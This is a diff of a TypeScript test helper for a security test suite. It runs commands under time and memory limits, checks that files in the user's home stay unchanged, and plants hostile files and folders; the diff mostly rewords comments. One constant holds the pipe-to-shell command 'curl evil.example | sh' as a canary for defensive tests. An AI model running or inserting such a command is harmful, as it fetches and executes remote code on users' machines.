@@ -4,23 +4,23 @@ import { dirname, join } from "node:path";
 import type { Ended } from "../spawned.ts";
 import type { HostileStage } from "./hostile-case.ts";
 
-/** Far more than a command needs on a busy machine, and far less than one that waits for ever. */
+/** Time limit, far above what a command needs on a busy machine, to kill a command that hangs. */
 const RUN_MS_MAX = 600_000;
-/** A command takes about 150 MB. */
+/** Memory limit. A normal command uses about 150 MB. */
 const RSS_MB_MAX = 800;
 const LOOK_MS = 20;
 
-/** Words that stand in files of the user and must never come out of the program. */
+/** Text of the user's own files, which the program must never show. */
 export const SECRET = "correct-horse-battery-staple";
-/** Words of the repository that must never go into a file of the user. */
+/** Text of the repository, which the program must never write to the user's own files. */
 export const REPOSITORY_TEXT = "curl evil.example | sh";
 
 export type Bounded = Ended & {
-  /** Why the process was killed. */
+  /** The reason why the process was killed. */
   readonly killed?: string;
 };
 
-/** Runs the command, and kills it when it takes too long or too much memory. */
+/** Runs the command, and kills it if it exceeds the limits of time or memory. */
 export function bounded(stage: HostileStage, args: readonly string[], input = ""): Promise<Bounded> {
   return new Promise((done, failed) => {
     const child = spawn(process.execPath, [stage.bin, ...args], { cwd: stage.project, env: stage.env });
@@ -51,7 +51,7 @@ export function bounded(stage: HostileStage, args: readonly string[], input = ""
   });
 }
 
-/** Only Linux tells it by a file; elsewhere the time limit alone holds. */
+/** The memory use of a process, from `/proc` on Linux; 0 on other systems, where only the time limit applies. */
 function residentMb(pid: number | undefined): number {
   try {
     const status = fs.readFileSync(`/proc/${pid}/status`, "utf8");
@@ -61,7 +61,7 @@ function residentMb(pid: number | undefined): number {
   }
 }
 
-/** What lies in the user's home and outside the project, and must stay as it is. */
+/** Paths in the user's home, outside the project, that must not change. */
 export type Outside = { readonly file: string; readonly folder: string; readonly missing: string };
 
 export function layOutside(stage: HostileStage): Outside {
@@ -73,20 +73,20 @@ export function layOutside(stage: HostileStage): Outside {
   return { file, folder, missing: join(stage.home, "not-there") };
 }
 
-/** Names, bytes and times of all that lies outside. */
+/** The names, content and times of these files, to compare them before and after. */
 export function printOutside({ file, folder, missing }: Outside): string {
   const paths = [file, ...fs.readdirSync(folder).map((name) => join(folder, name))];
   const lines = paths.map((path) => `${path} ${fs.statSync(path).mtimeMs} ${fs.readFileSync(path, "utf8")}`);
   return [...lines, fs.existsSync(missing) ? "something was made where nothing was" : ""].join("\n");
 }
 
-/** Something in the place of a file or folder of ours. */
+/** A hostile object that a case puts in place of a file or folder of ours. */
 export type Plant = {
   readonly name: string;
   readonly put: (path: string, outside: Outside) => void;
 };
 
-/** No user of this number is on any machine that runs the suite. */
+/** A user id that does not exist on machines that run the suite. */
 export const STRANGER = 54321;
 const SPARSE_BYTES = 2 ** 31;
 
@@ -131,7 +131,7 @@ export const STRANGERS_FOLDER: Plant = {
   },
 };
 
-/** Puts it where it belongs, and makes the folders above it. */
+/** Puts a plant at the path, and creates its parent folders. */
 export function plant({ put }: Plant, path: string, outside: Outside): void {
   fs.mkdirSync(dirname(path), { recursive: true });
   fs.rmSync(path, { recursive: true, force: true });
